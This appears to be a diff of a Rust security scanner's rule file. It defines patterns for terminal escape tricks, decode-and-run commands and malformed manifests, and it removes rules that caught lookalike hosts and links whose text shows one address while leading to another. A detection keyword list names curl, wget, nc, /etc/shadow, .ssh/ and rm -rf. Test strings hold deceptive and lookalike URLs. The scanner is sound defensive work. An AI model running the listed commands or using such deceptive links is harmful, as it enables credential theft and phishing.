@@ -3,9 +3,6 @@
 use super::judges;
 use super::signals;
 use crate::finding::{Category, Severity};
-use crate::indicator::extract::urls;
-use crate::indicator::host::Host;
-use crate::indicator::reputation::{Reputation, classify};
 use crate::layers::rule_engine::reading::{Hit, Reading};
 use crate::layers::rule_engine::rule::{Kind, Rule, When};
 use crate::layers::rule_engine::signal::Signal;
@@ -26,23 +23,19 @@ static RUN_OF_FILES: Signal = Signal::pattern(
 );
 
 static TERMINAL_TRICK: Signal = Signal::pattern(
-    &["\x1b[", "\\x1b[", "\\033[", "\\e[", "\\u001b[", "\x1b]", "\\033]", "\\x1b]"],
-    r"(?:\x1b|\\x1b|\\033|\\e|\\u001b)(?:\[(?:8m|[0-3]?J|2?K|1A|\d{1,3}A\\?\S{0,6}\[2K|30;40m|\d{1,3};\d{1,3}H|\?25l|\?1049h)|\](?:52;|8;;|0;))",
+    &["\\x1b[", "\\033[", "\\e[", "\\u001b[", "\\033]", "\\x1b]", "\\e]"],
+    r"(?:\\x1b|\\033|\\e|\\u001b)(?:\[(?:8m|[0-3]?J|2?K|1A|30;40m|\d{1,3};\d{1,3}H|\?1049h)|\]52;)",
 );
 
+/// The escape character itself, as no editor writes it.
 static TERMINAL_HIDE: Signal = Signal::pattern(
-    &["\x1b[", "\x1b]"],
+    &["\x1b[8m", "\x1b[2j", "\x1b[2k", "\x1b[1a", "\x1b[30;40m", "\x1b]52;"],
     r"\x1b\[(?:8m|2J|2K|1A|30;40m)|\x1b\]52;",
-);
-
-static LINK: Signal = Signal::pattern(
-    &["](http", "](<http", "](hxxp"],
-    r"\[[^\]\n]{3,200}\]\(<?(?:https?|hxxps?)://[^\s)>]{3,300}",
 );
 
 static SHOWN_ADDRESS: Signal = Signal::pattern(
     &["echo ", "printf ", "print(", "write-host", "console.log("],
-    r#"\b(?:echo|printf|print\(|Write-Host|console\.log\()\s*["'][^"'\n]{0,120}https?://[^\s"']+[^"'\n]{0,60}["']"#,
+    r#"\b(?:echo|printf|print\(|Write-Host|console\.log\()\s*["'][^"'\n]*https?://[^\s"']+[^"'\n]*["']"#,
 );
 
 static DECODES_AND_RUNS: Signal = Signal::pattern(
@@ -128,6 +121,7 @@ pub(super) static RULES: &[Rule] = &[
         category: Category::DetectionEvasion,
         taxa: &["OB-05"],
         fragile: true,
+        kind: Kind::Fact,
         why: "what is shown is not what is there",
         fix: "look at the text with cat -v",
         when: When::Any(&[&TERMINAL_TRICK]),
@@ -167,36 +161,6 @@ pub(super) static RULES: &[Rule] = &[
     },
     Rule {
         id: "MALWAR-EVADE-008",
-        title: "An address imitates a well known one",
-        severity: Severity::High,
-        confidence: 72,
-        category: Category::Deception,
-        taxa: &["OB-01", "SE-05"],
-        why: "letters that look alike, or one letter more, send the reader somewhere else",
-        fix: "do not follow it",
-        when: When::Judge(&[&ADDRESS], imitating_host),
-        hits: &["Download it from https://githubb.com/x/y.zip now.\n", "```bash\ncurl https://xn--pple-43d.com/i.sh -o i.sh\n```\n"],
-        misses: &["Download it from https://github.com/x/y.\n", "See https://b\u{fc}cher.de.\n"],
-        ..Rule::BASE
-    },
-    Rule {
-        id: "MALWAR-EVADE-009",
-        title: "A link shows one address and leads to another",
-        severity: Severity::High,
-        confidence: 74,
-        category: Category::Deception,
-        taxa: &["PI-09", "SE-05"],
-        kind: Kind::Fact,
-        why: "the reader decides by what is shown and gets what is not",
-        fix: "do not follow it",
-        when: When::Any(&[&LINK]),
-        guard: Some(shows_another_host),
-        hits: &["[https://www.python.org/downloads](https://dl.fast-agent.top/py.zip)\n", "Get it at [github.com/openai/tool](https://rentry.co/x9).\n"],
-        misses: &["[the docs](https://docs.fast-agent.top)\n", "[https://github.com/a/b](https://github.com/a/b)\n", "[example.com](https://www.example.com/x)\n"],
-        ..Rule::BASE
-    },
-    Rule {
-        id: "MALWAR-EVADE-010",
         title: "One address is shown while another is decoded and used",
         severity: Severity::Critical,
         confidence: 84,
@@ -240,9 +204,9 @@ pub(super) static RULES: &[Rule] = &[
         why: "readers differ in what they make of it, and what one skips another obeys",
         fix: "save it as UTF-8 with valid YAML",
         when: When::Judge(&[], unreadable),
+        guard: Some(all_but_the_manifest),
         hits: &["---\nname: [a\ndescription: \"b\n---\n", "---\nname: x\n  - y: {\n---\n"],
         misses: &["---\nname: a\ndescription: b\n---\n", "# A\n"],
-        ..Rule::BASE
     },
 ];
 
@@ -254,10 +218,8 @@ static SHELL_BEHIND: Signal = Signal::pattern(
 /// Commands that a shell's reading may reveal.
 static FETCH_OR_RUN: Signal = Signal::pattern(
     &["curl", "wget", "bash", "base64", "eval", "python", "nc ", "/etc/passwd", "/etc/shadow", ".ssh/", "rm -rf", "/bin/sh", "powershell", "chmod", "crontab"],
-    r"\b(?:curl|wget)\s|\b(?:ba|z)sh\b|\bbase64\b|\beval\b|\bpython3?\s|\bnc\s+-|/etc/(?:passwd|shadow)|\.ssh/|\brm\s+-rf\b|/bin/sh\b|\bpowershell\b|\bchmod\s|\bcrontab\b",
+    r"\b(?:curl|wget)\s|\b(?:ba|z)sh\b|\bbase64\b|\beval\b|\bnc\s+-|/etc/(?:passwd|shadow)|\.ssh/|\brm\s+-rf\b|/bin/sh\b|\bpowershell\b|\bchmod\s|\bcrontab\b",
 );
-
-static ADDRESS: Signal = Signal::pattern(&["http://", "https://", "hxxp"], r"\b(?:https?|hxxps?)://[^\s]{4,200}");
 
 /// A stretch of blank lines, blank columns or repeated bytes.
 fn paddings(text: &str) -> Vec<Span> {
@@ -342,58 +304,15 @@ fn shell_spelling(reading: &Reading<'_>) -> Vec<Hit> {
         let word = span.of(reading.text).trim();
         let source = reading.original(*span).of(&reading.file.text).to_ascii_lowercase();
         let word = word.split_whitespace().next().unwrap_or(word).to_ascii_lowercase();
-        !source.is_empty() && !source.contains(&word) && source.len() < word.len() * 6 + 24
+        let variable = source.trim_matches(['"', '\'', ' ', '{', '}', '$']);
+        let variable = source.contains('$')
+            && variable.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
+        let line = reading.original(reading.line(*span, 200)).of(&reading.file.text);
+        let braced = line.to_ascii_lowercase().contains(&format!("{{{word},"));
+        let broken = !source.is_empty() && !source.contains(&word) && !variable;
+        broken && source.len() < word.len() * 6 + 24 || braced
     });
     broken.next().map(Hit::at).into_iter().collect()
-}
-
-fn imitating_host(reading: &Reading<'_>) -> Vec<Hit> {
-    let matches = reading.matches(&ADDRESS);
-    let imitates = |span: &&Span| {
-        urls(span.of(reading.text)).take(1).any(|(_, url)| match classify(&url) {
-            Reputation::Lookalike => true,
-            Reputation::Punycode => url.spelt_host().contains("xn--"),
-            Reputation::Vendor
-            | Reputation::PackageRegistry
-            | Reputation::CodeHost
-            | Reputation::RawCode
-            | Reputation::Paste
-            | Reputation::Shortener
-            | Reputation::RawAddress
-            | Reputation::LocalAddress
-            | Reputation::FreeHosting
-            | Reputation::Tunnel
-            | Reputation::RequestBin
-            | Reputation::ChatWebhook
-            | Reputation::FileDrop
-            | Reputation::Placeholder
-            | Reputation::Unknown => false,
-        })
-    };
-    matches.iter().find(imitates).copied().map(Hit::at).into_iter().collect()
-}
-
-/// Whether the text of a link names a host that is not the one it leads to.
-fn shows_another_host(reading: &Reading<'_>, hit: &Hit) -> u32 {
-    use crate::indicator::domain::{has_known_ending, registrable_domain};
-    let link = hit.span.of(reading.text);
-    let Some((shown, target)) = link.split_once("](") else { return 0 };
-    let shown = shown.trim_start_matches('[').trim_matches(['`', '*', '<', '>', ' ']);
-    let bare = shown.split_once("://").map_or(shown, |(_, rest)| rest);
-    let host = bare.split(['/', '?', '#', ':']).next().unwrap_or("").to_ascii_lowercase();
-    if shown.contains(' ') || !host.contains('.') || !has_known_ending(&host) {
-        return 0;
-    }
-    let path_shown = shown.contains("://") || bare.contains('/');
-    let Some((_, url)) = urls(target.trim_start_matches('<')).next() else { return 0 };
-    let Host::Name(name) = url.host() else { return 100 };
-    let same = registrable_domain(name) == registrable_domain(&host);
-    match (same, path_shown, classify(&url)) {
-        (true, ..) | (_, _, Reputation::Vendor | Reputation::PackageRegistry) => 0,
-        (_, _, Reputation::Placeholder | Reputation::LocalAddress) => 0,
-        (false, true, _) => 100,
-        (false, false, _) => 40,
-    }
 }
 
 fn not_looked_into(reading: &Reading<'_>) -> Vec<Hit> {
@@ -417,4 +336,9 @@ fn unreadable(reading: &Reading<'_>) -> Vec<Hit> {
         .map(|why| Hit { note: Some(why.clone()), ..start_of(reading) })
         .into_iter()
         .collect()
+}
+
+/// What the rest of a skill says is read all the same when its manifest is not.
+fn all_but_the_manifest(_reading: &Reading<'_>, hit: &Hit) -> u32 {
+    if hit.note.as_deref().is_some_and(|note| note.starts_with("YAML")) { 80 } else { 100 }
 }
